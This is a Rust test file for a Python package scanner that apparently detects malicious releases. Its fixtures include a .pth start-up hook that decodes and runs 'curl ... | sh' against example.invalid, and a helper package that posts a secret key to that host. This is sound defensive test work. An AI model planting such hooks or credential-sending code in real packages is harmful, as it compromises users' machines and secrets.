//! `hognose inspect NAME` against an index of ours on the loopback interface. Every artifact is made here and inert.

#![expect(clippy::unwrap_used, reason = "a test stops at the first surprise")]

#[path = "inspect/archives.rs"]
mod archives;
mod common;

use std::collections::BTreeMap;
use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex};

use archives::{METADATA, base64, sdist, wheel};
use common::{Outcome, Sandbox};
use sha2::{Digest as _, Sha256};

/// Where a pip keeps its default.
const STOCK: &str = "lib/python3.12/site-packages/pip/_internal/models/index.py";

const HONEST: &str = "def load(path):\n    return open(path).read()\n";

/// Pages and files by path; `None` never answers.
type Pages = BTreeMap<String, Option<Vec<u8>>>;

struct Index {
    address: String,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Index {
    fn new(pages: Pages) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap().to_string();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let log = Arc::clone(&seen);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                serve(stream, &pages, &log);
            }
        });
        Self { address, seen }
    }

    fn url(&self) -> String {
        format!("http://{}/simple/", self.address)
    }

    fn requests(&self) -> usize {
        self.seen.lock().unwrap().len()
    }

    /// Runs with the index in the environment.
    fn run(&self, sandbox: &Sandbox, arguments: &[&str]) -> Outcome {
        let output = sandbox
            .command(arguments)
            .env_remove("PIP_NO_INDEX")
            .env("PIP_INDEX_URL", self.url())
            .output()
            .unwrap();
        self.outcome(&output)
    }

    fn outcome(&self, output: &std::process::Output) -> Outcome {
        let text = |bytes: &[u8]| {
            let text = String::from_utf8(bytes.to_vec()).unwrap();
            text.replace(&self.address, "index.example")
        };
        Outcome {
            code: output.status.code().unwrap_or(-1),
            stdout: text(&output.stdout),
            stderr: text(&output.stderr),
        }
    }
}

fn serve(mut stream: TcpStream, pages: &Pages, log: &Mutex<Vec<String>>) {
    let mut lines = BufReader::new(stream.try_clone().unwrap()).lines();
    let first = lines.next().unwrap().unwrap();
    // All of them: a connection closed with bytes unread is reset.
    let _headers = lines
        .map(Result::unwrap)
        .take_while(|l| !l.is_empty())
        .count();
    let path = first.split(' ').nth(1).unwrap();
    log.lock().unwrap().push(path.to_owned());
    let (status, body) = match pages.get(path) {
        Some(Some(body)) => (200, body.as_slice()),
        Some(None) => (503, &b"later"[..]),
        None => (404, &b""[..]),
    };
    let head = format!(
        "HTTP/1.1 {status} X\r\nConnection: close\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    let _ = stream
        .write_all(head.as_bytes())
        .and_then(|()| stream.write_all(body));
}

fn sha256(bytes: &[u8]) -> String {
    let digest = Sha256::digest(bytes);
    digest
        .iter()
        .fold(String::new(), |hex, byte| format!("{hex}{byte:02x}"))
}

/// The pages of a project whose files are given.
fn project(name: &str, files: &[(&str, Vec<u8>)]) -> Pages {
    let mut pages = Pages::new();
    let mut page = "<!DOCTYPE html><html><body>\n".to_owned();
    for (file, bytes) in files {
        page.push_str(&format!(
            "<a href=\"../../f/{file}#sha256={}\">{file}</a>\n",
            sha256(bytes)
        ));
        pages.insert(format!("/f/{file}"), Some(bytes.clone()));
    }
    pages.insert(format!("/simple/{name}/"), Some(page.into_bytes()));
    pages
}

/// A release as it should be, and the next one with a start-up hook and a downloader.
fn acme() -> Pages {
    let honest = [("acme/__init__.py", HONEST.to_owned())];
    let inner = base64(b"import os\nos.system('curl -s http://example.invalid/a | sh')\n");
    let taken = [
        ("acme/__init__.py", HONEST.to_owned()),
        (
            "acme/_boot.py",
            format!("import base64\nexec(base64.b64decode('{inner}'))\n"),
        ),
        ("acme.pth", "import acme._boot\n".to_owned()),
    ];
    project(
        "acme",
        &[
            ("acme-1.4.1.tar.gz", sdist("acme", "1.4.1", &honest)),
            (
                "acme-1.4.1-py3-none-any.whl",
                wheel("acme", "1.4.1", &honest, ""),
            ),
            ("acme-1.4.2.tar.gz", sdist("acme", "1.4.2", &honest)),
            (
                "acme-1.4.2-py3-none-any.whl",
                wheel("acme", "1.4.2", &taken, ""),
            ),
        ],
    )
}

fn json(outcome: &Outcome) -> serde_json::Value {
    serde_json::from_str(&outcome.stdout).unwrap()
}

/// Name, version and kind of what was inspected.
fn inspected(outcome: &Outcome) -> Vec<String> {
    let report = json(outcome);
    let artifacts = report["artifacts"].as_array().unwrap().iter();
    let mut found: Vec<String> = artifacts
        .map(|a| format!("{} {} {}", a["name"], a["version"], a["kind"]).replace('"', ""))
        .collect();
    found.sort();
    found
}

#[test]
fn a_release_is_fetched_and_its_sdist_and_wheel_are_inspected() {
    assert!(METADATA.contains("example.invalid"));
    let (index, sandbox) = (Index::new(acme()), Sandbox::new());
    let newest = index.run(
        &sandbox,
        &["inspect", "Acme", "--format", "json", "--fail-on", "never"],
    );
    assert_eq!(
        inspected(&newest),
        ["acme 1.4.2 sdist", "acme 1.4.2 wheel"],
        "{}",
        newest.whole()
    );
    assert_eq!(index.requests(), 3);
    let pinned = index.run(&sandbox, &["inspect", "acme==1.4.1", "--format", "json"]);
    assert_eq!(pinned.code, 0, "{}", pinned.whole());
    assert_eq!(inspected(&pinned).len(), 2);
    // What was fetched once is not fetched again: files are kept by digest, pages for a while. Offline both count.
    let before = index.requests();
    index.run(&sandbox, &["inspect", "acme==1.4.1"]);
    let offline = index.run(&sandbox, &["inspect", "acme==1.4.1", "--offline"]);
    assert_eq!(
        (offline.code, index.requests()),
        (0, before),
        "{}",
        offline.whole()
    );
}

#[test]
fn each_artifact_is_compared_with_its_kind_of_the_release_before() {
    let (index, sandbox) = (Index::new(acme()), Sandbox::new());
    let arguments = [
        "inspect",
        "acme",
        "--diff",
        "--format",
        "json",
        "--fail-on",
        "never",
    ];
    let outcome = index.run(&sandbox, &arguments);
    let report = json(&outcome);
    let olds: Vec<String> = report["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["change"]["old_path"].to_string())
        .collect();
    assert!(
        olds.iter()
            .any(|o| o.contains("acme-1.4.1-py3-none-any.whl"))
            && olds.iter().any(|o| o.contains("acme-1.4.1.tar.gz")),
        "{report:#}"
    );
    let first = index.run(&sandbox, &["inspect", "acme==1.4.1", "--diff"]);
    assert_eq!(first.code, 2);
    assert!(
        first.stderr.contains("no release before 1.4.1"),
        "{}",
        first.stderr
    );
}

#[test]
fn errors_say_what_was_asked() {
    let mut pages = acme();
    pages.insert("/simple/down/".to_owned(), None);
    let mut changed = project("changed", &[("changed-1.0.tar.gz", b"one".to_vec())]);
    changed.insert("/f/changed-1.0.tar.gz".to_owned(), Some(b"two".to_vec()));
    pages.extend(changed);
    let (index, sandbox) = (Index::new(pages), Sandbox::new());
    let texts = [
        &["inspect", "absent"][..],
        &["inspect", "acme==9"],
        &["inspect", "down"],
        &["inspect", "changed"],
        &["inspect", "acme", "--offline"],
        &[
            "inspect",
            "acme",
            "--index-url",
            "ftp://me:secret@index.example",
        ],
    ]
    .map(|arguments| format!("{arguments:?}\n{}", index.run(&sandbox, arguments).whole()));
    insta::assert_snapshot!(texts.join("\n"));
}

#[test]
fn the_index_comes_from_where_pip_and_uv_have_it() {
    let index = Index::new(acme());
    let stock = format!(
        "PyPI = PackageIndex(\"http://{}/\", file_storage_domain=\"x\")\n",
        index.address
    );
    let url = index.url();
    let places = [
        (
            "../.config/pip/pip.conf",
            format!("[global]\nindex-url = {url}\n"),
        ),
        ("../env/pip.conf", format!("[install]\nindex-url = {url}\n")),
        ("uv.toml", format!("index-url = \"{url}\"\n")),
        (
            "pyproject.toml",
            format!("[[tool.uv.index]]\nurl = \"{url}\"\ndefault = true\n"),
        ),
        (
            "../env/lib/python3.12/site-packages/pip/_internal/models/index.py",
            stock,
        ),
    ];
    let source = format!("url = \"{url}\"\n");
    let tables = [
        (
            "pyproject.toml",
            format!("[[tool.poetry.source]]\nname = \"own\"\n{source}"),
        ),
        (
            "pyproject.toml",
            format!("[[tool.pdm.source]]\nname = \"pypi\"\n{source}"),
        ),
        // Bound to it, and so nobody else is asked.
        (
            "pyproject.toml",
            format!(
                "[[tool.uv.index]]\nname = \"own\"\nexplicit = true\n{source}[tool.uv.sources]\nAcme = {{ index = \"own\" }}\n"
            ),
        ),
        ("Pipfile", format!("[[source]]\nname = \"own\"\n{source}")),
        ("../xdg/uv/uv.toml", format!("index-url = \"{url}\"\n")),
    ];
    // Where a place is not looked at, the default leads to nobody.
    let nobody = "PyPI = PackageIndex(\"http://127.0.0.1:9/\", file_storage_domain=\"x\")\n";
    for (place, text) in places.into_iter().chain(tables) {
        let sandbox = Sandbox::new();
        sandbox.write("../env/pyvenv.cfg", "");
        sandbox.write(&format!("../env/{STOCK}"), nobody);
        sandbox.write(place, text);
        let mut command = sandbox.command(&["inspect", "acme==1.4.1", "--format", "json"]);
        command.env("VIRTUAL_ENV", sandbox.work().join("../env"));
        command.env_remove("PIP_NO_INDEX");
        // The machine that tests run on may have a configuration of its own.
        command.env("XDG_CONFIG_DIRS", sandbox.work().join("../xdg"));
        if place.contains(STOCK) {
            command.env("PIP_CONFIG_FILE", "/dev/null");
        }
        let outcome = index.outcome(&command.output().unwrap());
        assert_eq!(outcome.code, 0, "{place}: {}", outcome.whole());
    }
}

#[test]
fn without_an_index_nothing_is_asked() {
    let (index, sandbox) = (Index::new(acme()), Sandbox::new());
    let mut command = sandbox.command(&["inspect", "acme"]);
    command.env("PIP_INDEX_URL", index.url());
    let outcome = index.outcome(&command.output().unwrap());
    assert_eq!(
        (outcome.code, index.requests()),
        (3, 0),
        "{}",
        outcome.whole()
    );
    assert!(
        outcome.stderr.contains("PIP_NO_INDEX forbids"),
        "{}",
        outcome.stderr
    );
}

/// Runs `scan --inspect` with the project's own advisories, which have none about these packages.
fn scan(index: &Index, sandbox: &Sandbox, arguments: &[&str]) -> Outcome {
    let feed = common::root().join("examples/feeds");
    let mut all = vec!["scan", "--inspect", "--feed", feed.to_str().unwrap()];
    all.extend(arguments);
    let outcome = index.run(sandbox, &all);
    Outcome {
        stdout: outcome
            .stdout
            .replace(common::root().to_str().unwrap(), "[ROOT]"),
        ..outcome
    }
}

#[test]
fn a_scan_says_what_the_packages_do() {
    let mut pages = acme();
    let honest = [("calm/__init__.py", HONEST.to_owned())];
    pages.extend(project(
        "calm",
        &[(
            "calm-2.0-py3-none-any.whl",
            wheel("calm", "2.0", &honest, ""),
        )],
    ));
    let (index, sandbox) = (Index::new(pages), Sandbox::new());
    sandbox.write("requirements.txt", "acme==1.4.2\ncalm==2.0\n");
    let outcome = scan(&index, &sandbox, &[]);
    insta::assert_snapshot!(outcome.whole());
    let report = json(&scan(&index, &sandbox, &["--format", "json"]));
    let findings = report["findings"].as_array().unwrap();
    assert_eq!(findings.len(), 1, "{report:#}");
    assert_eq!(findings[0]["severity"], "critical");
    // Nothing is asked again: pages are kept for a while, and verdicts are remembered by digest, even without the artifacts.
    std::fs::remove_dir_all(sandbox.cache().join("artifacts")).unwrap();
    let before = index.requests();
    assert_eq!(scan(&index, &sandbox, &["--format", "sarif"]).code, 1);
    assert_eq!(index.requests(), before);
    // The same report, byte for byte, from verdicts just made and from remembered ones.
    let again = scan(&index, &sandbox, &["--format", "json"]);
    assert_eq!(json(&again), report);
}

#[test]
fn a_scan_joins_what_stands_in_two_packages() {
    let client = "import os\nfrom clocks import sync\n\n\nclass Session:\n    def __init__(self, access_key=None, secret=None):\n        \
                  self.secret = secret or os.environ['ACME_SECRET_KEY']\n        self.offset = sync(access_key, self.secret)\n";
    let helper = "import requests\n\n\ndef sync(ak, sk):\n    \
                  return requests.post('http://example.invalid/t', json={'a': ak, 's': sk}).json()['t']\n";
    let mut pages = Pages::new();
    for (name, file, text) in [
        ("cloudy", "cloudy/__init__.py", client),
        ("clocks", "clocks/__init__.py", helper),
    ] {
        let file_name = format!("{name}-1.0-py3-none-any.whl");
        let bytes = wheel(name, "1.0", &[(file, text.to_owned())], "");
        pages.extend(project(name, &[(file_name.as_str(), bytes)]));
    }
    let (index, sandbox) = (Index::new(pages), Sandbox::new());
    sandbox.write("requirements.txt", "cloudy==1.0\nclocks==1.0\n");
    for _ in 0..2 {
        let report = json(&scan(&index, &sandbox, &["--format", "json"]));
        let findings = report["findings"].as_array().unwrap();
        let rules: Vec<_> = findings
            .iter()
            .map(|f| f["rule"].as_str().unwrap())
            .collect();
        assert_eq!(rules, ["HOG-MAL-credential-dependency"], "{report:#}");
        assert!(findings[0].to_string().contains("pkg:pypi/cloudy@1.0"));
    }
    sandbox.write("requirements.txt", "cloudy==1.0\n");
    let alone = json(&scan(&index, &sandbox, &["--format", "json"]));
    assert!(alone["findings"].as_array().unwrap().is_empty());
}

#[test]
fn what_a_scan_could_not_fetch_makes_it_incomplete() {
    let mut pages = acme();
    pages.insert("/simple/down/".to_owned(), None);
    let (index, sandbox) = (Index::new(pages), Sandbox::new());
    sandbox.write(
        "requirements.txt",
        format!(
            "absent==1.0\nacme==1.4.1 --hash=sha256:{}\ndown==1.0\nlinked @ https://files.example/linked-1.0.tar.gz\n",
            "ab".repeat(32)
        ),
    );
    // That one requirement has a hash and the others have none is another matter.
    sandbox.write("hognose.toml", "[policy.rules]\nHOG-HASH-mixed = \"off\"\n");
    let outcome = scan(&index, &sandbox, &[]);
    insta::assert_snapshot!(outcome.whole());
    let allowed = scan(
        &index,
        &sandbox,
        &[
            "--allow-incomplete",
            "unreadable",
            "--allow-incomplete",
            "version",
        ],
    );
    assert_eq!(allowed.code, 0, "{}", allowed.whole());
    let before = index.requests();
    let offline = scan(&index, &sandbox, &["--offline"]);
    assert_eq!(
        (offline.code, index.requests()),
        (3, before),
        "{}",
        offline.whole()
    );
    assert!(
        offline.flowing().contains("3 releases were not inspected"),
        "{}",
        offline.whole()
    );
}

#[test]
fn only_files_that_the_lock_allows_are_inspected() {
    let honest = [("acme/__init__.py", HONEST.to_owned())];
    let allowed = sha256(&sdist("acme", "1.4.2", &honest));
    let (index, sandbox) = (Index::new(acme()), Sandbox::new());
    sandbox.write(
        "requirements.txt",
        format!("acme==1.4.2 --hash=sha256:{allowed}\n"),
    );
    let outcome = scan(&index, &sandbox, &[]);
    assert_eq!(outcome.code, 0, "{}", outcome.whole());
    assert_eq!(index.requests(), 2);
}

#[test]
fn a_project_that_is_not_trusted_chooses_no_index() {
    let (chosen, own, sandbox) = (Index::new(acme()), Index::new(acme()), Sandbox::new());
    sandbox.write("requirements.txt", "acme==1.4.1\n");
    sandbox.write("uv.toml", format!("index-url = \"{}\"\n", chosen.url()));
    sandbox.write(
        "../.config/pip/pip.conf",
        format!("[global]\nindex-url = {}\n", own.url()),
    );
    let feed = common::root().join("examples/feeds");
    let run = |more: &[&str]| {
        let mut all = vec!["scan", "--inspect", "--feed", feed.to_str().unwrap()];
        all.extend(more);
        let mut command = sandbox.command(&all);
        command.env_remove("PIP_NO_INDEX");
        let outcome = own.outcome(&command.output().unwrap());
        assert_eq!(outcome.code, 0, "{}", outcome.whole());
        (chosen.requests() > 0, own.requests() > 0)
    };
    assert_eq!(run(&["--no-config"]), (false, true));
    assert_eq!(run(&[]), (true, true));
}
